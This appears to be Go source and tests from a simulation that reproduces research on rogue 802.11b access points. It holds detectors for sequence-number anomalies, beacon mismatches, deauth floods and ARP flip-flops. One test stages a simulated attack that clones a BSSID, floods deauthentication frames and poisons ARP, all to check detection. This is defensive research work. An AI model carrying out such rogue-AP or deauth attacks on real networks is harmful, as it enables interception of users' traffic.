	}
}

func TestMissedFramesTolerated(t *testing.T) {
	// A sensor missing up to SeqJumpThreshold frames must not alert.
	_, d := newDetector()
	seq := uint16(0)
	for i := 0; i < 500; i++ {
		d.Observe(frame(staMAC, seq), phy.RxInfo{})
		seq = (seq + 30) & 0x0fff // heavy but plausible loss
	}
	if len(d.Alerts) != 0 {
		t.Fatalf("alerts under frame loss: %v", d.Alerts)
	}
}

func TestInterleavedCountersDetected(t *testing.T) {
	// Two transmitters sharing one MAC (the cloned-BSSID rogue): their
	// independent counters interleave and betray themselves.
	_, d := newDetector()
	a, b := uint16(0), uint16(2000)
	for i := 0; i < 50; i++ {
		d.Observe(frame(apMAC, a), phy.RxInfo{})
		a++
		d.Observe(frame(apMAC, b), phy.RxInfo{})
		b++
	}
	alerts := d.AlertsOf(AlertSeqAnomaly)
	if len(alerts) != 1 {
		t.Fatalf("seq alerts = %v", d.Alerts)
	}
	if alerts[0].MAC != apMAC {
		t.Fatalf("alert MAC %v", alerts[0].MAC)
	}
}

func TestSingleResetNotAlerted(t *testing.T) {
	// One counter reset (device reboot) stays under the alert threshold.
	_, d := newDetector()
	for i := 0; i < 100; i++ {
		d.Observe(frame(staMAC, uint16(i+3000)), phy.RxInfo{})
	}
	for i := 0; i < 100; i++ { // reboot: counter restarts
		d.Observe(frame(staMAC, uint16(i)), phy.RxInfo{})
	}
	if len(d.Alerts) != 0 {
		t.Fatalf("alert on single reset: %v", d.Alerts)
	}
}

func TestPerMACIsolation(t *testing.T) {
	// Anomalies are tracked per MAC; two healthy stations never mix.
	_, d := newDetector()
	for i := 0; i < 1000; i++ {
		d.Observe(frame(staMAC, uint16(i)), phy.RxInfo{})
		d.Observe(frame(otherMAC, uint16(i+2048)), phy.RxInfo{})
	}
	if len(d.Alerts) != 0 {
		t.Fatalf("cross-MAC confusion: %v", d.Alerts)
	}
}

func beaconFrame(bssid ethernet.MAC, ssid string, ch byte, interval uint16, cap uint16) dot11.Frame {
	body := dot11.BeaconBody{SSID: ssid, Channel: ch, BeaconInterval: interval, Capability: cap}
	return dot11.Frame{
		Type: dot11.TypeManagement, Subtype: dot11.SubtypeBeacon,
		Addr1: ethernet.BroadcastMAC, Addr2: bssid, Addr3: bssid,
		Body: body.Marshal(),
	}
}

func TestBeaconFingerprintMismatch(t *testing.T) {
	_, d := newDetector()
	// Real AP: CORP on channel 1 — then a clone appears on channel 6.
	d.Observe(beaconFrame(apMAC, "CORP", 1, 100, dot11.CapESS), phy.RxInfo{})
	d.Observe(beaconFrame(apMAC, "CORP", 1, 100, dot11.CapESS), phy.RxInfo{})
	d.Observe(beaconFrame(apMAC, "CORP", 6, 100, dot11.CapESS), phy.RxInfo{})
	alerts := d.AlertsOf(AlertBeaconMismatch)
	if len(alerts) != 1 {
		t.Fatalf("beacon alerts = %v", d.Alerts)
	}
}

func TestBeaconStableNoAlert(t *testing.T) {
	_, d := newDetector()
	for i := 0; i < 100; i++ {
		d.Observe(beaconFrame(apMAC, "CORP", 1, 100, dot11.CapESS|dot11.CapPrivacy), phy.RxInfo{})
	}
	if len(d.Alerts) != 0 {
		t.Fatalf("alerts on stable beacons: %v", d.Alerts)
	}
}

func TestDeauthFloodDetected(t *testing.T) {
	k, d := newDetector()
	deauth := dot11.Frame{
		Type: dot11.TypeManagement, Subtype: dot11.SubtypeDeauth,
		Addr1: staMAC, Addr2: apMAC, Addr3: apMAC,
		Body: (&dot11.ReasonBody{Reason: 3}).Marshal(),
	}
	for i := 0; i < 10; i++ {
		d.Observe(deauth, phy.RxInfo{})
		k.RunFor(50 * sim.Millisecond)
	}
	if len(d.AlertsOf(AlertDeauthFlood)) != 1 {
		t.Fatalf("deauth alerts = %v", d.Alerts)
	}
}

func TestSlowDeauthsNotFlood(t *testing.T) {
	k, d := newDetector()
	deauth := dot11.Frame{
		Type: dot11.TypeManagement, Subtype: dot11.SubtypeDeauth,
		Addr1: staMAC, Addr2: apMAC, Addr3: apMAC,
		Body: (&dot11.ReasonBody{Reason: 3}).Marshal(),
	}
	for i := 0; i < 10; i++ {
		d.Observe(deauth, phy.RxInfo{})
		k.RunFor(5 * sim.Second)
	}
	if len(d.Alerts) != 0 {
		t.Fatalf("alerts on slow deauths: %v", d.Alerts)
	}
}

func TestOnAlertCallback(t *testing.T) {
	_, d := newDetector()
	fired := 0
	d.OnAlert = func(a Alert) { fired++ }
	a, b := uint16(0), uint16(2000)
	for i := 0; i < 50; i++ {
		d.Observe(frame(apMAC, a), phy.RxInfo{})
		a++
		d.Observe(frame(apMAC, b), phy.RxInfo{})
		b++
	}
	if fired != len(d.Alerts) || fired == 0 {
		t.Fatalf("fired=%d alerts=%d", fired, len(d.Alerts))
	}
}

func TestAlertString(t *testing.T) {
	a := Alert{Kind: AlertSeqAnomaly, MAC: apMAC, Detail: "x"}
	if a.String() == "" {
		t.Fatal("empty alert string")
	}
	for k, want := range map[AlertKind]string{
		AlertSeqAnomaly: "sequence-anomaly", AlertBeaconMismatch: "beacon-mismatch", AlertDeauthFlood: "deauth-flood",
	} {
		if k.String() != want {
			t.Errorf("%d = %q", k, k.String())
		}
	}
}

// Live integration: a monitor-fed detector catches a cloned-BSSID rogue.
func TestLiveRogueDetection(t *testing.T) {
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	// Real AP on channel 1, rogue clone on channel 6.
	dot11.NewAP(k, m.AddRadio(phy.RadioConfig{Name: "real", Pos: phy.Position{X: 0, Y: 0}, Channel: 1}),
		dot11.APConfig{SSID: "CORP", BSSID: apMAC, Channel: 1})
	dot11.NewAP(k, m.AddRadio(phy.RadioConfig{Name: "rogue", Pos: phy.Position{X: 30, Y: 0}, Channel: 6}),
		dot11.APConfig{SSID: "CORP", BSSID: apMAC, Channel: 6})

	monRadio := m.AddRadio(phy.RadioConfig{Name: "sensor", Pos: phy.Position{X: 15, Y: 0}, Channel: 1})
	mon := dot11.NewMonitor(monRadio)
	d := New(k, Config{})
	d.Attach(mon)
	NewHopper(k, mon, 200*sim.Millisecond)

	k.RunUntil(30 * sim.Second)
	if len(d.AlertsOf(AlertSeqAnomaly)) == 0 && len(d.AlertsOf(AlertBeaconMismatch)) == 0 {
		t.Fatalf("hopping sensor failed to detect cloned-BSSID rogue (saw %d frames)", d.FramesSeen)
	}
}

func TestLiveHealthyNetworkQuiet(t *testing.T) {
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	dot11.NewAP(k, m.AddRadio(phy.RadioConfig{Name: "real", Pos: phy.Position{X: 0, Y: 0}, Channel: 1}),
		dot11.APConfig{SSID: "CORP", BSSID: apMAC, Channel: 1})
	sta := dot11.NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "sta", Pos: phy.Position{X: 10, Y: 0}, Channel: 1}),
		dot11.STAConfig{MAC: staMAC, SSID: "CORP"})
	sta.Connect()

	monRadio := m.AddRadio(phy.RadioConfig{Name: "sensor", Pos: phy.Position{X: 5, Y: 0}, Channel: 1})
	mon := dot11.NewMonitor(monRadio)
	d := New(k, Config{})
	d.Attach(mon)
	NewHopper(k, mon, 200*sim.Millisecond)

	k.RunUntil(30 * sim.Second)
	if len(d.Alerts) != 0 {
		t.Fatalf("false positives on healthy network: %v", d.Alerts)
	}
}
