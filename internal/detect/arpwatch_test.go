package detect

import (
	"testing"

	"repro/internal/arp"
	"repro/internal/attack"
	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/wep"
)

func TestArpwatchFlipFlop(t *testing.T) {
	k := sim.NewKernel(1)
	w := &Arpwatch{kernel: k, bindings: map[[4]byte]ethernet.MAC{}}
	macA := ethernet.MustParseMAC("02:00:00:00:00:0a")
	macB := ethernet.MustParseMAC("02:00:00:00:00:0b")
	ip := inet.MustParseAddr("10.0.0.3")

	pkt := func(hw ethernet.MAC) []byte {
		p := arp.Packet{Op: arp.OpRequest, SenderHW: hw, SenderIP: ip, TargetIP: ip}
		return p.Marshal()
	}
	w.observe(pkt(macA))
	w.observe(pkt(macA))
	if len(w.Alerts) != 0 {
		t.Fatalf("stable binding alerted: %v", w.Alerts)
	}
	w.observe(pkt(macB))
	if len(w.Alerts) != 1 || w.Alerts[0].Kind != AlertARPFlipFlop {
		t.Fatalf("flip not alerted: %v", w.Alerts)
	}
	w.observe(pkt(macA)) // flop back
	if len(w.Alerts) != 2 {
		t.Fatalf("flop back not alerted: %v", w.Alerts)
	}
	if m, ok := w.Binding([4]byte(ip)); !ok || m != macA {
		t.Fatalf("binding = %v, %v", m, ok)
	}
}

func TestArpwatchIgnoresUnspecifiedSender(t *testing.T) {
	k := sim.NewKernel(1)
	w := &Arpwatch{kernel: k, bindings: map[[4]byte]ethernet.MAC{}}
	p := arp.Packet{Op: arp.OpRequest, SenderHW: ethernet.MustParseMAC("02:00:00:00:00:0a")}
	w.observe(p.Marshal())
	w.observe([]byte{1, 2, 3}) // garbage
	if len(w.Alerts) != 0 || len(w.bindings) != 0 {
		t.Fatal("probe/garbage affected state")
	}
}

// TestArpwatchCatchesRoguePoisoning is the full §2.3 wired-side story: the
// victim lives on the real AP (its ARP traffic teaches the wire its real
// MAC); the attacker forces it onto the rogue, whose upstream poisoning
// moves the victim's IP to the attacker's MAC — and arpwatch flags the move.
func TestArpwatchCatchesRoguePoisoning(t *testing.T) {
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	key := wep.Key40FromString("SECRET")
	corpBSSID := ethernet.MustParseMAC("02:aa:bb:cc:dd:01")
	victimMAC := ethernet.MustParseMAC("02:00:00:00:03:01")

	// Wired side: switch with a router host and the arpwatch sensor.
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})
	prefix := inet.MustParsePrefix("10.0.0.0/24")
	routerIP := inet.MustParseAddr("10.0.0.1")
	router := ipv4.NewStack(k, "router")
	router.AddIface("eth0", sw.Attach(alloc.Next()), routerIP, prefix)
	watch := NewArpwatch(k, sw.Attach(alloc.Next()))

	// Real AP bridging wireless to the switch.
	ap := dot11.NewAP(k, m.AddRadio(phy.RadioConfig{Name: "corp", Pos: phy.Position{X: 0, Y: 0}, Channel: 1}),
		dot11.APConfig{SSID: "CORP", BSSID: corpBSSID, Channel: 1, WEPKey: key})
	ap.AttachUplink(sw.Attach(alloc.Next()))

	// Victim: wireless host that pings the router periodically.
	victimSTA := dot11.NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "victim", Pos: phy.Position{X: 40, Y: 0}, Channel: 1}),
		dot11.STAConfig{MAC: victimMAC, SSID: "CORP", WEPKey: key})
	victimIP := ipv4.NewStack(k, "victim")
	victimIP.AddIface("wlan0", victimSTA.NIC(), inet.MustParseAddr("10.0.0.3"), prefix)
	victimIP.AddDefaultRoute(routerIP, "wlan0")
	var ping func()
	seq := uint16(0)
	ping = func() {
		seq++
		_ = victimIP.Ping(routerIP, 1, seq, nil)
		k.After(2*sim.Second, ping)
	}
	victimSTA.Connect()
	k.After(5*sim.Second, ping)
	k.RunUntil(12 * sim.Second)
	if victimSTA.BSS().Channel != 1 {
		t.Fatalf("victim should start on the real AP (ch %d)", victimSTA.BSS().Channel)
	}
	if _, ok := watch.Binding([4]byte{10, 0, 0, 3}); !ok {
		t.Fatal("wire never learned the victim's real binding")
	}
	if len(watch.Alerts) != 0 {
		t.Fatalf("false positives before the attack: %v", watch.Alerts)
	}

	// The attack: rogue kit + deauth forcing.
	_, err := attack.NewRogueKit(k, m, phy.Position{X: 42, Y: 0}, attack.RogueKitConfig{
		SSID: "CORP", CloneBSSID: corpBSSID, Channel: 6, WEPKey: key,
		StationMAC:     ethernet.MustParseMAC("02:00:00:00:66:01"),
		WlanIP:         inet.MustParseAddr("10.0.0.201"),
		EthIP:          inet.MustParseAddr("10.0.0.200"),
		Prefix:         prefix,
		DefaultGW:      routerIP,
		PoisonUpstream: true,
		DisableMITM:    true,
	})
	if err != nil {
		t.Fatal(err)
	}
	k.RunUntil(k.Now() + 5*sim.Second)
	d := attack.NewDeauther(k, m, phy.Position{X: 41, Y: 0}, 1)
	d.Flood(victimMAC, corpBSSID, 100*sim.Millisecond)
	k.RunUntil(k.Now() + 10*sim.Second)
	d.Stop()
	// The victim keeps pinging with a warm ARP cache (60 s TTL) that still
	// points at the real router MAC; the rogue can only proxy-answer (and
	// poison upstream) once the victim re-ARPs. Wait out the TTL.
	k.RunUntil(k.Now() + 80*sim.Second)

	if victimSTA.BSS().Channel != 6 {
		t.Skipf("victim not captured by rogue (ch %d); poisoning untestable", victimSTA.BSS().Channel)
	}
	flip := false
	for _, a := range watch.Alerts {
		if a.Kind == AlertARPFlipFlop {
			flip = true
		}
	}
	if !flip {
		t.Fatalf("arpwatch missed the rogue's poisoning (alerts: %v, packets: %d)",
			watch.Alerts, watch.PacketsSeen)
	}
}
