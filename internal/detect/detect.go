// Package detect implements the rogue-AP detection techniques the paper's
// Section 2.3 recommends to network administrators:
//
//   - sequence-control analysis ("These techniques rely on monitoring
//     802.11b Sequence Control numbers"): every 802.11 transmitter stamps
//     frames from a single monotonically increasing 12-bit counter, so two
//     radios claiming one BSSID/MAC betray themselves as two interleaved
//     counters;
//   - beacon fingerprinting: a BSSID seen with conflicting channel,
//     capability, or beacon-interval parameters ("radio site audits");
//   - deauthentication-flood detection, which catches the rogue's
//     "force the client's disassociation" step.
//
// All detectors feed on a dot11.Monitor (an rfmon sensor) and raise Alerts.
package detect

import (
	"fmt"

	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/sim"
)

// AlertKind classifies a detection.
type AlertKind int

// Alert kinds.
const (
	AlertSeqAnomaly AlertKind = iota
	AlertBeaconMismatch
	AlertDeauthFlood
)

// String names the kind.
func (k AlertKind) String() string {
	switch k {
	case AlertSeqAnomaly:
		return "sequence-anomaly"
	case AlertBeaconMismatch:
		return "beacon-mismatch"
	case AlertDeauthFlood:
		return "deauth-flood"
	case AlertARPFlipFlop:
		return "arp-flip-flop"
	}
	return "?"
}

// Alert is one detection event.
type Alert struct {
	Kind   AlertKind
	MAC    ethernet.MAC // offending transmitter/BSSID
	At     sim.Time
	Detail string
}

// String formats the alert.
func (a Alert) String() string {
	return fmt.Sprintf("[%v] %v %v: %s", a.At, a.Kind, a.MAC, a.Detail)
}

// Config tunes the detector suite. Zero values take defaults.
type Config struct {
	// SeqJumpThreshold: a backward jump of at least this many sequence
	// numbers (mod 4096) counts as an anomaly (default 64 — ordinary loss
	// and retries stay far below it).
	SeqJumpThreshold uint16
	// SeqAnomaliesToAlert: alert after this many anomalies from one MAC
	// (default 3 — one anomaly can be a counter reset after a power
	// cycle).
	SeqAnomaliesToAlert int
	// DeauthWindow and DeauthLimit: more than DeauthLimit deauth or
	// disassoc frames from one BSSID inside DeauthWindow raises an alert
	// (defaults 1 s / 5).
	DeauthWindow sim.Time
	DeauthLimit  int
}

func (c *Config) fill() {
	if c.SeqJumpThreshold == 0 {
		c.SeqJumpThreshold = 64
	}
	if c.SeqAnomaliesToAlert == 0 {
		c.SeqAnomaliesToAlert = 3
	}
	if c.DeauthWindow == 0 {
		c.DeauthWindow = sim.Second
	}
	if c.DeauthLimit == 0 {
		c.DeauthLimit = 5
	}
}

// fingerprint is what a BSSID should look like, learned from its first
// sighting.
type fingerprint struct {
	ssid     string
	channel  phy.Channel
	interval uint16
	cap      uint16
}

type seqState struct {
	last      uint16
	seen      bool
	anomalies int
	alerted   bool
}

// Detector is the sensor-side analysis engine. Attach it to a monitor with
// Attach, or feed frames directly with Observe.
type Detector struct {
	kernel *sim.Kernel
	cfg    Config

	seq      map[ethernet.MAC]*seqState
	prints   map[ethernet.MAC]fingerprint
	deauths  map[ethernet.MAC][]sim.Time
	deauthAl map[ethernet.MAC]bool

	// OnAlert fires for each new alert (also appended to Alerts).
	OnAlert func(Alert)
	// Alerts accumulates everything raised.
	Alerts []Alert

	// FramesSeen counts frames analysed.
	FramesSeen uint64
}

// New creates a detector.
func New(k *sim.Kernel, cfg Config) *Detector {
	cfg.fill()
	return &Detector{
		kernel:   k,
		cfg:      cfg,
		seq:      make(map[ethernet.MAC]*seqState),
		prints:   make(map[ethernet.MAC]fingerprint),
		deauths:  make(map[ethernet.MAC][]sim.Time),
		deauthAl: make(map[ethernet.MAC]bool),
	}
}

// Attach subscribes the detector to a monitor (replacing its OnFrame).
func (d *Detector) Attach(m *dot11.Monitor) {
	m.OnFrame = func(f dot11.Frame, info phy.RxInfo) { d.Observe(f, info) }
}

// AlertsOf filters collected alerts by kind.
func (d *Detector) AlertsOf(kind AlertKind) []Alert {
	var out []Alert
	for _, a := range d.Alerts {
		if a.Kind == kind {
			out = append(out, a)
		}
	}
	return out
}

func (d *Detector) raise(a Alert) {
	a.At = d.kernel.Now()
	d.Alerts = append(d.Alerts, a)
	if d.OnAlert != nil {
		d.OnAlert(a)
	}
}

// Observe analyses one captured frame.
func (d *Detector) Observe(f dot11.Frame, info phy.RxInfo) {
	d.FramesSeen++
	d.observeSeq(f)
	switch {
	case f.Type == dot11.TypeManagement && f.Subtype == dot11.SubtypeBeacon:
		d.observeBeacon(f, info)
	case f.Type == dot11.TypeManagement &&
		(f.Subtype == dot11.SubtypeDeauth || f.Subtype == dot11.SubtypeDisassoc):
		d.observeDeauth(f)
	}
}

// observeSeq applies sequence-control analysis to the transmitter address.
func (d *Detector) observeSeq(f dot11.Frame) {
	m := f.Addr2
	st := d.seq[m]
	if st == nil {
		st = &seqState{}
		d.seq[m] = st
	}
	if st.seen {
		fwd := (f.Seq - st.last) & 0x0fff
		// A healthy single counter only moves forward a little (allowing
		// for frames the sensor missed); fwd == 0 is a retransmission. A
		// second radio sharing the MAC produces large jumps both ways.
		if fwd != 0 &&
			(fwd > 0x0fff-uint16(d.cfg.SeqJumpThreshold) || // backward
				(fwd > uint16(d.cfg.SeqJumpThreshold) && fwd < 0x0800)) { // huge forward
			st.anomalies++
			if st.anomalies >= d.cfg.SeqAnomaliesToAlert && !st.alerted {
				st.alerted = true
				d.raise(Alert{
					Kind: AlertSeqAnomaly, MAC: m,
					Detail: fmt.Sprintf("%d sequence-control anomalies (last jump %d)", st.anomalies, int16(fwd)),
				})
			}
		}
	}
	st.last = f.Seq
	st.seen = true
}

// observeBeacon compares a beacon against the BSSID's learned fingerprint.
func (d *Detector) observeBeacon(f dot11.Frame, info phy.RxInfo) {
	body, err := dot11.UnmarshalBeaconBody(f.Body)
	if err != nil {
		return
	}
	fp := fingerprint{
		ssid:     body.SSID,
		channel:  phy.Channel(body.Channel),
		interval: body.BeaconInterval,
		cap:      body.Capability,
	}
	prev, ok := d.prints[f.Addr2]
	if !ok {
		d.prints[f.Addr2] = fp
		return
	}
	if prev != fp {
		d.raise(Alert{
			Kind: AlertBeaconMismatch, MAC: f.Addr2,
			Detail: fmt.Sprintf("beacon fingerprint changed: %+v -> %+v", prev, fp),
		})
		// Keep the original fingerprint as truth; keep alerting per change
		// is noisy, so update to the latest to only flag transitions.
		d.prints[f.Addr2] = fp
	}
}

// observeDeauth rate-limits deauth/disassoc per claimed source.
func (d *Detector) observeDeauth(f dot11.Frame) {
	m := f.Addr2
	now := d.kernel.Now()
	times := d.deauths[m]
	cutoff := now - d.cfg.DeauthWindow
	kept := times[:0]
	for _, t := range times {
		if t >= cutoff {
			kept = append(kept, t)
		}
	}
	kept = append(kept, now)
	d.deauths[m] = kept
	if len(kept) > d.cfg.DeauthLimit && !d.deauthAl[m] {
		d.deauthAl[m] = true
		d.raise(Alert{
			Kind: AlertDeauthFlood, MAC: m,
			Detail: fmt.Sprintf("%d deauth/disassoc frames in %v", len(kept), d.cfg.DeauthWindow),
		})
	}
}

// Hopper cycles a monitor across channels so one sensor can audit the whole
// band — the "radio site audit" of §2.3.
type Hopper struct {
	monitor *dot11.Monitor
	kernel  *sim.Kernel
	dwell   sim.Time
	stopped bool
}

// NewHopper starts hopping the monitor with the given per-channel dwell.
func NewHopper(k *sim.Kernel, m *dot11.Monitor, dwell sim.Time) *Hopper {
	h := &Hopper{monitor: m, kernel: k, dwell: dwell}
	h.hop(phy.MinChannel)
	return h
}

// Stop halts hopping.
func (h *Hopper) Stop() { h.stopped = true }

func (h *Hopper) hop(c phy.Channel) {
	if h.stopped {
		return
	}
	h.monitor.SetChannel(c)
	next := c + 1
	if next > phy.MaxChannel {
		next = phy.MinChannel
	}
	h.kernel.ScheduleAfter(h.dwell, func() { h.hop(next) })
}
