// Package dot11 implements the 802.11 MAC layer of the simulation: frame
// formats, beaconing, scanning, authentication (open and WEP shared-key),
// association, deauthentication, WEP encapsulation of data frames, and
// sequence-control numbering.
//
// Both honest devices and the attacker's kit are built from the same types:
// an AP is an AP whether its operator is the CORP admin or the laptop in the
// next seat — which is precisely the paper's point: nothing in 802.11b lets
// a client tell them apart.
package dot11

import (
	"encoding/binary"
	"errors"
	"fmt"

	"repro/internal/ethernet"
)

// Type is the 802.11 frame type.
type Type byte

// Frame types.
const (
	TypeManagement Type = 0
	TypeControl    Type = 1
	TypeData       Type = 2
)

// Subtype is the frame subtype within a type.
type Subtype byte

// Management subtypes used in this simulation.
const (
	SubtypeAssocReq  Subtype = 0
	SubtypeAssocResp Subtype = 1
	SubtypeProbeReq  Subtype = 4
	SubtypeProbeResp Subtype = 5
	SubtypeBeacon    Subtype = 8
	SubtypeDisassoc  Subtype = 10
	SubtypeAuth      Subtype = 11
	SubtypeDeauth    Subtype = 12
	// SubtypeDataFrame is the only data subtype modelled.
	SubtypeDataFrame Subtype = 0
	// SubtypeAck is the control acknowledgement frame.
	SubtypeAck Subtype = 13
)

// Frame is a parsed 802.11 MAC frame.
//
// Address semantics (infrastructure mode):
//
//	ToDS=1 (station → AP):  Addr1=BSSID, Addr2=transmitter (STA), Addr3=final destination
//	FromDS=1 (AP → station): Addr1=receiver (STA), Addr2=BSSID, Addr3=original source
//	management frames:       Addr1=destination, Addr2=source, Addr3=BSSID
type Frame struct {
	Type      Type
	Subtype   Subtype
	ToDS      bool
	FromDS    bool
	Retry     bool
	Protected bool // body is WEP-encapsulated
	Addr1     ethernet.MAC
	Addr2     ethernet.MAC
	Addr3     ethernet.MAC
	Seq       uint16 // 12-bit sequence number
	Frag      uint8  // 4-bit fragment number
	Body      []byte
}

// headerLen is the serialised MAC header size (no QoS, no Addr4).
const headerLen = 2 + 2 + 6 + 6 + 6 + 2

// Marshal serialises the frame into an exactly-sized slice (tests assert
// zero spare capacity).
func (f *Frame) Marshal() []byte {
	b := make([]byte, headerLen+len(f.Body))
	f.putHeader(b)
	copy(b[headerLen:], f.Body)
	return b
}

// putHeader writes the 24-byte MAC header into b, which must hold at least
// headerLen bytes. The zero-copy transmit path pushes the header into packet
// headroom with this; Marshal shares it.
func (f *Frame) putHeader(b []byte) {
	fc0 := byte(f.Type)<<2 | byte(f.Subtype)<<4 // version 0
	var fc1 byte
	if f.ToDS {
		fc1 |= 0x01
	}
	if f.FromDS {
		fc1 |= 0x02
	}
	if f.Retry {
		fc1 |= 0x08
	}
	if f.Protected {
		fc1 |= 0x40
	}
	b[0], b[1] = fc0, fc1
	b[2], b[3] = 0, 0 // duration: unused
	copy(b[4:10], f.Addr1[:])
	copy(b[10:16], f.Addr2[:])
	copy(b[16:22], f.Addr3[:])
	binary.LittleEndian.PutUint16(b[22:24], f.Seq<<4|uint16(f.Frag&0x0f))
}

// ErrShortFrame reports a buffer too small to hold a MAC header.
var ErrShortFrame = errors.New("dot11: short frame")

// Unmarshal parses a serialised frame. Body aliases b.
func Unmarshal(b []byte) (Frame, error) {
	if len(b) < headerLen {
		return Frame{}, ErrShortFrame
	}
	var f Frame
	f.Type = Type(b[0] >> 2 & 0x3)
	f.Subtype = Subtype(b[0] >> 4)
	f.ToDS = b[1]&0x01 != 0
	f.FromDS = b[1]&0x02 != 0
	f.Retry = b[1]&0x08 != 0
	f.Protected = b[1]&0x40 != 0
	copy(f.Addr1[:], b[4:10])
	copy(f.Addr2[:], b[10:16])
	copy(f.Addr3[:], b[16:22])
	sc := binary.LittleEndian.Uint16(b[22:24])
	f.Seq = sc >> 4
	f.Frag = uint8(sc & 0x0f)
	f.Body = b[headerLen:]
	return f, nil
}

// WireLen reports the serialised length.
func (f *Frame) WireLen() int { return headerLen + len(f.Body) }

// String gives a compact trace representation.
func (f *Frame) String() string {
	kind := "?"
	switch f.Type {
	case TypeManagement:
		switch f.Subtype {
		case SubtypeBeacon:
			kind = "beacon"
		case SubtypeProbeReq:
			kind = "probe-req"
		case SubtypeProbeResp:
			kind = "probe-resp"
		case SubtypeAuth:
			kind = "auth"
		case SubtypeAssocReq:
			kind = "assoc-req"
		case SubtypeAssocResp:
			kind = "assoc-resp"
		case SubtypeDeauth:
			kind = "deauth"
		case SubtypeDisassoc:
			kind = "disassoc"
		}
	case TypeData:
		kind = "data"
	}
	return fmt.Sprintf("%s seq=%d a1=%s a2=%s a3=%s len=%d", kind, f.Seq, f.Addr1, f.Addr2, f.Addr3, len(f.Body))
}

// --- Management frame bodies ---

// Capability bits advertised in beacons and probe responses.
const (
	CapESS     uint16 = 0x0001 // infrastructure network
	CapPrivacy uint16 = 0x0010 // WEP required
)

// BeaconBody is the body of beacon and probe-response frames.
type BeaconBody struct {
	Timestamp      uint64 // µs since AP start (TSF)
	BeaconInterval uint16 // in TU (1024 µs)
	Capability     uint16
	SSID           string
	Channel        byte
}

// Marshal serialises the body with its information elements.
func (b *BeaconBody) Marshal() []byte {
	out := make([]byte, 12, 12+2+len(b.SSID)+3)
	binary.LittleEndian.PutUint64(out[0:8], b.Timestamp)
	binary.LittleEndian.PutUint16(out[8:10], b.BeaconInterval)
	binary.LittleEndian.PutUint16(out[10:12], b.Capability)
	out = appendIE(out, ieSSID, []byte(b.SSID))
	out = appendIE(out, ieDSParam, []byte{b.Channel})
	return out
}

// UnmarshalBeaconBody parses a beacon/probe-response body.
func UnmarshalBeaconBody(p []byte) (BeaconBody, error) {
	var b BeaconBody
	if len(p) < 12 {
		return b, errors.New("dot11: short beacon body")
	}
	b.Timestamp = binary.LittleEndian.Uint64(p[0:8])
	b.BeaconInterval = binary.LittleEndian.Uint16(p[8:10])
	b.Capability = binary.LittleEndian.Uint16(p[10:12])
	ies, err := parseIEs(p[12:])
	if err != nil {
		return b, err
	}
	if v, ok := ies[ieSSID]; ok {
		b.SSID = string(v)
	}
	if v, ok := ies[ieDSParam]; ok && len(v) == 1 {
		b.Channel = v[0]
	}
	return b, nil
}

// ProbeReqBody is the body of a probe request: the SSID being sought
// (empty for a wildcard probe).
type ProbeReqBody struct{ SSID string }

// Marshal serialises the probe request body into an exactly-sized slice.
func (b *ProbeReqBody) Marshal() []byte {
	return appendIE(make([]byte, 0, 2+len(b.SSID)), ieSSID, []byte(b.SSID))
}

// UnmarshalProbeReqBody parses a probe request body.
func UnmarshalProbeReqBody(p []byte) (ProbeReqBody, error) {
	ies, err := parseIEs(p)
	if err != nil {
		return ProbeReqBody{}, err
	}
	return ProbeReqBody{SSID: string(ies[ieSSID])}, nil
}

// Authentication algorithm numbers.
const (
	AuthOpen      uint16 = 0
	AuthSharedKey uint16 = 1
)

// Authentication status codes (also used by assoc responses).
const (
	StatusSuccess         uint16 = 0
	StatusUnspecified     uint16 = 1
	StatusAuthAlgMismatch uint16 = 13
	StatusChallengeFail   uint16 = 15
	StatusUnauthorized    uint16 = 16
)

// AuthBody is the body of authentication frames. The shared-key handshake
// runs four messages: (1) request, (2) clear challenge, (3) WEP-encrypted
// challenge (whole body sealed), (4) result.
type AuthBody struct {
	Algorithm uint16
	Seq       uint16
	Status    uint16
	Challenge []byte
}

// Marshal serialises the auth body.
func (b *AuthBody) Marshal() []byte {
	out := make([]byte, 6, 6+2+len(b.Challenge))
	binary.LittleEndian.PutUint16(out[0:2], b.Algorithm)
	binary.LittleEndian.PutUint16(out[2:4], b.Seq)
	binary.LittleEndian.PutUint16(out[4:6], b.Status)
	if b.Challenge != nil {
		out = appendIE(out, ieChallenge, b.Challenge)
	}
	return out
}

// UnmarshalAuthBody parses an auth body.
func UnmarshalAuthBody(p []byte) (AuthBody, error) {
	var b AuthBody
	if len(p) < 6 {
		return b, errors.New("dot11: short auth body")
	}
	b.Algorithm = binary.LittleEndian.Uint16(p[0:2])
	b.Seq = binary.LittleEndian.Uint16(p[2:4])
	b.Status = binary.LittleEndian.Uint16(p[4:6])
	ies, err := parseIEs(p[6:])
	if err != nil {
		return b, err
	}
	if v, ok := ies[ieChallenge]; ok {
		b.Challenge = v
	}
	return b, nil
}

// AssocReqBody is the body of an association request.
type AssocReqBody struct {
	Capability uint16
	SSID       string
}

// Marshal serialises the assoc request body.
func (b *AssocReqBody) Marshal() []byte {
	out := make([]byte, 2, 2+2+len(b.SSID))
	binary.LittleEndian.PutUint16(out[0:2], b.Capability)
	return appendIE(out, ieSSID, []byte(b.SSID))
}

// UnmarshalAssocReqBody parses an assoc request body.
func UnmarshalAssocReqBody(p []byte) (AssocReqBody, error) {
	var b AssocReqBody
	if len(p) < 2 {
		return b, errors.New("dot11: short assoc-req body")
	}
	b.Capability = binary.LittleEndian.Uint16(p[0:2])
	ies, err := parseIEs(p[2:])
	if err != nil {
		return b, err
	}
	b.SSID = string(ies[ieSSID])
	return b, nil
}

// AssocRespBody is the body of an association response.
type AssocRespBody struct {
	Capability uint16
	Status     uint16
	AID        uint16
}

// Marshal serialises the assoc response body.
func (b *AssocRespBody) Marshal() []byte {
	out := make([]byte, 6)
	binary.LittleEndian.PutUint16(out[0:2], b.Capability)
	binary.LittleEndian.PutUint16(out[2:4], b.Status)
	binary.LittleEndian.PutUint16(out[4:6], b.AID)
	return out
}

// UnmarshalAssocRespBody parses an assoc response body.
